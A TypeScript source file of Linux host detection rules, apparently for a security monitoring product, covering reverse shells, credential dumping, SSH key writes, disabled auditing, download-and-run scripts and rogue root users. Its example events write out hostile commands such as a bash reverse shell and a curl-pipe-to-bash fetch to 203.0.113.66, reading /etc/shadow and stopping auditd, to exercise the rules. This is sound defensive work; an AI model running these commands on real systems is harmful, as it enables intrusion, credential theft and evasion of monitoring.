import type { Condition, Rule } from "../../rule.ts";
import { executed, falco, journal, sudo } from "../examples/machines.ts";
import { plainRule } from "../plain-rule.ts";
import { traceRule } from "../trace-rule.ts";

const SOURCES = { sources: ["linux-host"] } as const;
/** Whatever runs: as the audit, sudo and cron have it. */
const RUNS: readonly string[] = ["execve *", "sudo *", "cron *", "USER_CMD *"];
const does = (...signs: readonly string[]): Condition => ({ field: "labels.does", in: signs });

/** Users that servers run as: they serve, and never sign in. */
const SERVERS = ["www-data", "nginx", "apache", "httpd", "tomcat", "redis", "mysql", "memcached", "haproxy", "nobody"];

/** Users that come with images of clouds: people sign in as them, and become root. */
const USERS_OF_IMAGES = [
  ...["ubuntu", "ec2-user", "centos", "debian", "admin", "azureuser", "core", "vagrant", "opc", "cloud-user", "fedora"],
];

const RESPONSE = [
  "Cut the machine off from the network, and keep its memory.",
  "Change the keys and passwords that are on it, and look at where else its users were.",
];

const SHOWS = { shows: ["resource", "labels.parent", "labels.runs_as", "labels.host"], key: "labels.host" } as const;

/** What is run on a machine, as which user, and what is done so that nobody sees it. */
export const LINUX_MACHINE: readonly Rule[] = [
  plainRule({
    ...SOURCES,
    ...SHOWS,
    id: "linux-reverse-shell",
    title: "{identity_name} connected a shell at {labels.host} to somewhere else ({resource})",
    actions: RUNS,
    when: does("reverse-shell"),
    severity: "high",
    attack: { tactic: "Execution", technique: "T1059" },
    expected: "nobody does",
    falsePositives: ["Somebody who tests whether this is seen."],
    response: RESPONSE,
    fires: [
      "by a web server",
      executed("/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"], "nginx"),
    ],
    quiet: ["a script", executed("/usr/bin/bash", ["bash", "/opt/run.sh"], "cron")],
  }),
  plainRule({
    ...SOURCES,
    ...SHOWS,
    id: "linux-secrets-dumped",
    title: "{identity_name} read the passwords of the users of {labels.host} ({resource})",
    actions: RUNS,
    when: does("credentials-dumped"),
    severity: "high",
    attack: { tactic: "Credential Access", technique: "T1003" },
    owasp: ["NHI2"],
    expected: "only what lets users in reads them",
    falsePositives: ["A check of the machine's settings, at a known time."],
    response: RESPONSE,
    fires: ["with sudo", sudo("/bin/cat /etc/shadow")],
    quiet: ["another file", sudo("/bin/cat /etc/hosts")],
  }),
  plainRule({
    ...SOURCES,
    ...SHOWS,
    id: "linux-keys-written",
    title: "{identity_name} wrote to a file of keys that let in at {labels.host} ({resource})",
    actions: [...RUNS, "SYSCALL *"],
    when: does("keys-written"),
    severity: "medium",
    attack: { tactic: "Persistence", technique: "T1098.004" },
    owasp: ["NHI7"],
    expected: "by whatever sets machines up, and by people for themselves",
    falsePositives: ["A new machine, a new colleague: from code or a ticket."],
    response: ["Take the key out again (reversible), and see with which it signed in."],
    fires: ["with sudo", sudo("/usr/bin/tee -a /root/.ssh/authorized_keys")],
    quiet: ["another file of its", sudo("/usr/bin/tee -a /root/.ssh/known_hosts")],
  }),
  plainRule({
    ...SOURCES,
    ...SHOWS,
    id: "linux-watch-ended",
    title: "{identity_name} turned off what watches {labels.host}, or what it had seen ({action})",
    actions: [...RUNS, "CONFIG_CHANGE"],
    when: {
      any: [
        does("log-cleared", "guard-stopped", "history-cleared"),
        {
          all: [
            { field: "action", equals: "CONFIG_CHANGE" },
            { field: "labels.audit_enabled", equals: "0" },
          ],
        },
      ],
    },
    severity: "high",
    attack: { tactic: "Defense Impairment", technique: "T1685" },
    expected: "logs are forwarded and written over by themselves",
    falsePositives: ["An upgrade of what watches, from code or a ticket."],
    response: ["Turn it on again (reversible); what was forwarded before is still there.", ...RESPONSE],
    fires: ["the audit", sudo("/usr/bin/systemctl stop auditd")],
    quiet: ["another service", sudo("/usr/bin/systemctl stop nginx")],
  }),
  plainRule({
    ...SOURCES,
    ...SHOWS,
    id: "linux-code-from-elsewhere",
    title: "{identity_name} fetched a script and ran it at {labels.host}",
    actions: RUNS,
    kinds: ["service-account", "workload", "root"],
    when: does("download-and-run"),
    severity: "medium",
    attack: { tactic: "Execution", technique: "T1059" },
    expected: "a machine runs what was installed",
    falsePositives: ["What sets machines up with an installer from the web."],
    response: RESPONSE,
    fires: [
      "into a shell",
      executed("/usr/bin/bash", ["bash", "-c", "curl -s http://203.0.113.66/x | bash"], "cron", "deploy"),
    ],
    quiet: [
      "into a file",
      executed("/usr/bin/bash", ["bash", "-c", "curl -so /tmp/x http://203.0.113.66/x"], "cron", "deploy"),
    ],
  }),
  plainRule({
    ...SOURCES,
    ...SHOWS,
    id: "linux-shell-by-a-server",
    title: "{labels.parent}, a server, started {resource} at {labels.host} as {identity_name}",
    actions: [
      "execve bash",
      "execve python*",
      "execve perl",
      "execve nc*",
      "execve ncat",
      "execve curl",
      "execve wget",
    ],
    when: {
      field: "labels.parent",
      in: ["nginx", "apache2", "httpd", "php-fpm", "mysqld", "redis-server", "memcached"],
    },
    severity: "high",
    attack: { tactic: "Persistence", technique: "T1505" },
    expected: "what serves the web or a database starts no shell",
    falsePositives: ["An application that runs programs by itself: name them in a rule of your own."],
    response: RESPONSE,
    fires: ["by nginx", executed("/usr/bin/bash", ["bash", "-c", "id"], "nginx")],
    quiet: ["by sshd", executed("/usr/bin/bash", ["bash", "-c", "id"], "sshd")],
  }),
  plainRule({
    ...SOURCES,
    id: "linux-server-user-acts",
    title: "{identity_name}, the user of a server, did what people do at {labels.host} ({action})",
    actions: ["sudo *", "su", "ssh.login", "crontab.replace"],
    names: SERVERS,
    // Strangers try the names of all servers all day: that says nothing of the user.
    when: {
      not: {
        all: [
          { field: "action", equals: "ssh.login" },
          { field: "outcome", equals: "denied" },
        ],
      },
    },
    severity: "high",
    attempted: "medium",
    refusal: "alone",
    attack: { tactic: "Execution", technique: "T1059" },
    owasp: ["NHI10"],
    expected: "it serves, and neither signs in nor becomes somebody else",
    shows: ["resource", "src_ip", "labels.host"],
    key: "labels.host",
    falsePositives: ["A script of the server's that asks sudo for one program: name it in a rule of your own."],
    response: RESPONSE,
    fires: ["with sudo", sudo("/bin/bash", "www-data")],
    quiet: ["a user for deployment", sudo("/bin/bash")],
  }),
  plainRule({
    ...SOURCES,
    id: "linux-root-shell-by-a-service",
    title: "{identity_name}, a service's user, opened a shell as {labels.runs_as} at {labels.host}",
    actions: ["sudo *"],
    kinds: ["service-account"],
    when: {
      all: [
        { field: "labels.shell", equals: "yes" },
        { not: { field: "identity_name", in: [...SERVERS, ...USERS_OF_IMAGES] } },
      ],
    },
    severity: "medium",
    attempted: "medium",
    refusal: "alone",
    attack: { tactic: "Execution", technique: "T1059" },
    owasp: ["NHI10"],
    expected: "it is allowed single programs, and calls them",
    shows: ["labels.runs_as", "labels.terminal", "labels.host"],
    key: "labels.host",
    falsePositives: ["Somebody who looks for a fault as that user: give them one of their own."],
    response: ["Ask who that was; allow the user the programs that it needs, and no shell.", ...RESPONSE],
    fires: ["by hand", sudo("/bin/bash -i", "nagios")],
    quiet: ["a command that a tool hands over", sudo("/bin/sh -c echo BECOME-SUCCESS-x ; /usr/bin/python3", "ansible")],
  }),
  plainRule({
    ...SOURCES,
    id: "linux-second-root",
    title: "A user who is root by another name was made at {labels.host}: {resource}",
    actions: ["user.created", "user.uid-changed"],
    when: { field: "labels.uid", equals: "0" },
    severity: "high",
    attack: { tactic: "Persistence", technique: "T1136" },
    owasp: ["NHI5"],
    expected: "only root has the number 0",
    falsePositives: ["None that are known."],
    response: RESPONSE,
    fires: ["one", journal("useradd", "new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/bash")],
    quiet: ["a user", journal("useradd", "new user: name=svc, UID=1002, GID=1002, home=/home/svc, shell=/bin/bash")],
  }),
  traceRule({
    ...SOURCES,
    id: "linux-ruling-group-joined",
    title: "{labels.member} came into {resource} at {labels.host}, a group that is as good as root",
    actions: ["group.member-added"],
    when: { field: "labels.privileged_group", exists: true },
    attack: { tactic: "Privilege Escalation", technique: "T1098.007" },
    owasp: ["NHI5"],
    expected: "when a machine is set up",
    fires: ["docker", journal("usermod", "add 'deploy' to group 'docker'")],
    quiet: ["a group of its own", journal("usermod", "add 'deploy' to group 'web'")],
  }),
  ...[
    { grade: "grave", severity: "high", priorities: ["emergency", "alert", "critical"] } as const,
    { grade: "medium", severity: "medium", priorities: ["error"] } as const,
    { grade: "slight", severity: "low", priorities: ["warning"] } as const,
  ].map(({ grade, severity, priorities }) =>
    plainRule({
      ...SOURCES,
      id: `linux-falco-${grade}`,
      title: "Falco saw something at {identity_name}: {action}",
      actions: ["*"],
      service: "falco",
      when: { field: "labels.priority", in: priorities },
      severity,
      attack: { tactic: "Execution", technique: "T1059" },
      expected: "Falco has nothing to say of it",
      shows: ["action", "resource", "labels.program", "labels.parent", "labels.pod"],
      key: "action",
      falsePositives: ["What Falco itself gets wrong: an exception in its rule makes it quiet here, too."],
      response: RESPONSE,
      fires: [grade, falco("Drop and execute new binary in container", priorities[0])],
      quiet: ["less", falco("Terminal shell in container", "Notice")],
    }),
  ),
];
